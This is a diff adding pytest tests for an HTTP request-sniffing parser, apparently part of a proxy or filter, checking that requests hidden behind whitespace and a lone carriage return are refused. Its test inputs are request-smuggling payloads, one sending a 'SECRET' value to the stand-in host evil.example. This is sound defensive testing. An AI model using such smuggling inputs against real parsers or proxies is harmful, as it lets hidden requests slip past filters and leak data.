@@ -189,3 +189,24 @@ def test_what_ordinary_clients_send_is_read_as_they_mean_it(data: bytes) -> None
 def test_a_line_end_split_between_its_cr_and_lf_waits_for_the_lf() -> None:
     assert peek.claim(b"GET / HTTP/1.1\r") == peek.Claim(peek.MORE, need=peek.LINE)
     assert peek.claim(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n").name == "a.example"
+
+
+
+@pytest.mark.parametrize("data", [
+    # a fifth red-team round: white space, a lone CR, then a request (Python's reader takes
+    # the CR for a blank and reads the request from the line)
+    b" \rGET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+    b"\t\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
+    b"\x0b\rCONNECT evil.example:443 HTTP/1.1\r\n\r\n",
+    b"\x1c\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
+    b"\x85\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
+    b" \r GET http://evil.example/ HTTP/1.1\r\n\r\n",
+])
+def test_white_space_and_a_lone_cr_before_a_request_is_refused(data: bytes) -> None:
+    assert peek.claim(data).status == peek.BAD
+
+
+def test_a_lone_cr_after_white_space_waits_for_the_lf_and_after_binary_does_not() -> None:
+    for blank in (b" ", b"\t", b"\x1c", b"\x85", b"\xa0"):
+        assert peek.claim(blank + b"\r") == peek.Claim(peek.MORE, need=peek.LINE), blank
+    assert peek.claim(b"\x00\x01\r").status == peek.OTHER  # another protocol: no wait
